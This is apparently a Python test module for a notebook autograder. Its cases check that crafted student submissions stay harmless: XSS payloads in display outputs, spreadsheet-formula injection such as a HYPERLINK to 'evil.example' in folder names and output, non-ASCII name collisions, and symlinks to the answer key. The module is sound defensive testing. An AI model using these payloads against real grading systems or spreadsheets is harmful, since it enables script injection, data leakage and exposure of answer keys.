"""Issue 23, area "inert": student text is inert everywhere an instructor looks.

- markup in outputs (a `<script>` smuggled into an image/png output that breaks out of the src
  attribute, an HTML output, an SVG, a printed script) stays text on the feedback page;
- a student's folder name or output that reads as a spreadsheet formula is no formula in
  summary.csv;
- two students whose names differ only in non-ASCII letters get a result file each;
- a symbolic link (a data file, the notebook, a folder) pointing at the answer key is refused by
  name, and the key's text appears nowhere;
- a 00_setup notebook in another assignment's folder, or named after another assignment, is not
  graded as 00_setup (nor as the other one: it is refused, with the reason).

Each fails on the grader before this area's fix: the old page put the png text in `src='...'`
(an `onerror` attribute), the old summary wrote `=HYPERLINK(...)` as the first character of a
cell, the old result name mapped 'Zoë' and 'Zoé' to the same `Zo_` file, the old grader copied the
linked key into the sandbox (and graded a linked notebook as the key itself), and the old source
lookup fell back to the file name (00_setup.ipynb anywhere is 00_setup).
"""
from __future__ import annotations

import csv
import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

from . import KV, MAX, PAD, RIGHT, WRONG, AttackCase

KEY_MARKERS = ("### BEGIN SOLUTION", "### BEGIN HIDDEN TESTS")  # in the source, never in a submission


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _page(graded, student) -> str:
    return Path(graded.by[student]["html"]).read_text(encoding="utf-8")


def _assert_inert(page: str) -> None:
    parser = _Tags()
    parser.feed(page)
    for tag, attrs in parser.tags:
        assert tag not in ("script", "iframe", "object", "embed", "svg", "link", "base", "form"), tag
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        if tag == "img":
            assert re.fullmatch(r"data:image/(png|jpeg);base64,[A-Za-z0-9+/]+=*", attrs.get("src", "")), attrs
    assert "Content-Security-Policy" in page and "default-src 'none'" in page


def _summary_rows(graded) -> list[list[str]]:
    with open(graded.out / "summary.csv", newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


# -- markup in outputs -------------------------------------------------------------------------

MARKUP = RIGHT + '''
from IPython.display import display

display({"image/png": "x' onerror='alert(1)"}, raw=True)
display({"image/png": "iVBORw0KGgo=<script>alert(2)</script>"}, raw=True)
display({"text/html": "<script>alert(3)</script><b onmouseover=alert(4)>hi</b>", "text/plain": "plain"}, raw=True)
display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(5)'/>"}, raw=True)
print("<script>alert(6)</script>")
'''


def _build_markup(builder):
    return [builder.write("inert_markup", builder.attack(MARKUP))]


def _expect_markup(graded):
    entry = graded.by["inert_markup"]
    assert (entry["score"], entry["max_score"]) == (MAX, MAX) and not entry["errors"], entry
    page = _page(graded, "inert_markup")
    _assert_inert(page)
    assert "onerror='alert(1)" not in page and "<script>alert(" not in page
    assert "&lt;script&gt;alert(6)&lt;/script&gt;" in page, "what the student printed is shown, as text"
    assert "not rendered: text/html" in page


# -- formulas in summary.csv -------------------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("evil.example?x="&A1,"open")'  # (a folder name: no slash)
# Refused without a kernel (their folder names no assignment): they still have a summary row.
FORMULA_STRAYS = ["+SUM(1+1)", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1"]
FORMULA_CODE = RIGHT + '''
exec("_note = '=HYPERLINK(1)'")
print("=HYPERLINK(\\"http://evil.example\\",\\"x\\")")
'''


def _build_formulas(builder):
    paths = [builder.write(FORMULA_NAME, builder.attack(FORMULA_CODE))]
    paths += [builder.write(name, builder.honest(), assignment="inert_inbox") for name in FORMULA_STRAYS]
    return paths


def _expect_formulas(graded):
    entry = graded.by[FORMULA_NAME]
    assert (entry["score"], entry["max_score"]) == (MAX, MAX), entry
    assert any("exec" in f for f in entry["flags"]), entry["flags"]
    rows = _summary_rows(graded)
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n"), row
    students = [row[0] for row in rows]
    assert "'" + FORMULA_NAME in students and "'+SUM(1+1)" in students and "'\\t=1+1" in students
    for name in FORMULA_STRAYS:
        assert "names no assignment" in graded.by[name]["errors"][0]


# -- names that differ only in non-ASCII letters -----------------------------------------------

UNICODE_PAIR = ("inert_Zoë", "inert_Zoé")


def _build_unicode(builder):
    return [builder.write(UNICODE_PAIR[0], builder.attack(RIGHT)), builder.write(UNICODE_PAIR[1], builder.attack(WRONG))]


def _expect_unicode(graded):
    right, wrong = (graded.by[name] for name in UNICODE_PAIR)
    assert (right["score"], wrong["score"]) == (MAX, 0), (right["score"], wrong["score"])
    files = {}
    for path in graded.out.glob("*.json"):
        data = json.loads(path.read_text(encoding="utf-8"))
        if data.get("student") in UNICODE_PAIR:
            files[data["student"]] = (path.name, data["score"])
    assert set(files) == set(UNICODE_PAIR), f"one result file for two students: {files}"
    assert files[UNICODE_PAIR[0]][1] == MAX and files[UNICODE_PAIR[1]][1] == 0
    assert right["html"] != wrong["html"] and "Score: 1 / 1" in _page(graded, UNICODE_PAIR[0])


# -- symbolic links to the answer key ----------------------------------------------------------

PRINTS_DATA = RIGHT + '''
import os
for _name in sorted(os.listdir(".")):
    if os.path.isfile(_name) and not _name.endswith(".ipynb"):
        print(open(_name).read())
'''


def _link(link: Path, target: Path, is_dir=False):
    link.symlink_to(os.path.relpath(target, link.parent), target_is_directory=is_dir)


def _build_links(builder):
    key = builder.source_dir / KV[0] / f"{KV[0]}.ipynb"
    eve = builder.write("inert_link_data", builder.attack(PRINTS_DATA))
    _link(eve.parent / "data.txt", key)
    mallory = builder.base / "submitted" / "inert_link_notebook" / KV[0] / f"{KV[0]}.ipynb"
    mallory.parent.mkdir(parents=True)
    _link(mallory, key)
    trent = builder.base / "submitted" / "inert_link_folder" / KV[0]
    trent.parent.mkdir(parents=True)
    _link(trent, key.parent, is_dir=True)
    return [eve, mallory, trent / f"{KV[0]}.ipynb"]


def _expect_links(graded):
    shown = {"inert_link_data": "inert_link_data/00_setup/data.txt",
             "inert_link_notebook": "inert_link_notebook/00_setup/00_setup.ipynb",
             "inert_link_folder": "inert_link_folder/00_setup"}
    for student, link in shown.items():
        entry = graded.by[student]
        assert entry["score"] == 0 and "sandbox" not in entry, (student, entry)
        assert re.search(re.escape(link) + " is a symbolic link: refused", entry["errors"][0]), entry["errors"]
        texts = graded.texts(student)
        assert not any(marker in texts for marker in KEY_MARKERS), f"{student}: the answer key is shown"
    summary = (graded.out / "summary.csv").read_text(encoding="utf-8")
    assert not any(marker in summary for marker in KEY_MARKERS)


# -- a notebook graded against another assignment ----------------------------------------------

def _build_wrong_assignment(builder):
    easy = builder.honest(KV)
    return [builder.write("inert_misfiled", easy, KV, assignment=PAD[0]),  # .../01_static_batching/00_setup.ipynb
            builder.write("inert_renamed", easy, PAD),  # .../01_static_batching/01_static_batching.ipynb
            builder.write("inert_stray", easy, KV, assignment="inert_inbox")]  # .../inert_inbox/00_setup.ipynb


def _expect_wrong_assignment(graded):
    for student in ("inert_misfiled", "inert_renamed"):
        entry = graded.by[student]
        assert (entry["score"], entry["max_score"]) == (0, 2) and "sandbox" not in entry, entry
        assert entry["errors"][0].startswith(
            "this notebook does not match 01_static_batching/01_static_batching.ipynb, the assignment its folder "
            "names"), entry["errors"]
        assert "of 00_setup/00_setup.ipynb's are" in entry["errors"][0]
    stray = graded.by["inert_stray"]
    assert stray["score"] == 0 and "its folder 'inert_inbox' names no assignment" in stray["errors"][0], stray


CASES = [
    AttackCase("inert_markup_in_outputs", _build_markup, _expect_markup),
    AttackCase("inert_formulas_in_summary", _build_formulas, _expect_formulas),
    AttackCase("inert_non_ascii_names", _build_unicode, _expect_unicode),
    AttackCase("inert_symlinks_to_the_key", _build_links, _expect_links),
    AttackCase("inert_wrong_assignment", _build_wrong_assignment, _expect_wrong_assignment),
]
